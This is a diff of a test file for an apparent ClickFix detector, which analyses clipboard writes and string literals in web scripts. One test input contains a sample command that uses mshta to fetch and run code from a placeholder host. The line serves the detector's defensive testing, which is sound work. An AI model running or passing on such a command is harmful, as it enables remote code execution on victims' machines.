@@ -1,7 +1,7 @@
 /** What the ClickFix analysis reads out of pages and scripts: copied strings, visibility, displayed text. */
 import assert from 'node:assert/strict';
 import { parseJs } from '../src/analysis/js/parse.js';
-import { clipboardFacts, type ElementLookup } from '../src/analysis/web/clipboard.js';
+import { clipboardFacts, quotedStrings, type ElementLookup } from '../src/analysis/web/clipboard.js';
 import { pageFacts } from '../src/analysis/web/page.js';
 
 function copied(code: string, element?: ElementLookup, file = 'x.tsx') {
@@ -75,6 +75,16 @@ describe('clipboard writes: what is copied', () => {
     for (let i = 1; i < 200; i++) lines.push(`let a${i} = a${i - 1} + a${i - 1}; a${i} = a${i} + "y";`);
     lines.push('navigator.clipboard.writeText(a199);');
     assert.doesNotThrow(() => copied(lines.join('\n')));
+  });
+});
+
+describe('unparsed scripts: string literals as a fallback', () => {
+  it('finds quoted strings on one line, with escapes, in linear time', () => {
+    assert.deepEqual(quotedStrings(`a('mshta https://x.invalid/a'); b = "it\\"s fine here"; c = \`short\`;`).map((q) => q.value), ['mshta https://x.invalid/a', 'it\\"s fine here']);
+    const started = performance.now();
+    quotedStrings(`'${'x'.repeat(200_000)}`);
+    quotedStrings('"\n'.repeat(100_000));
+    assert.ok(performance.now() - started < 2000);
   });
 });
 
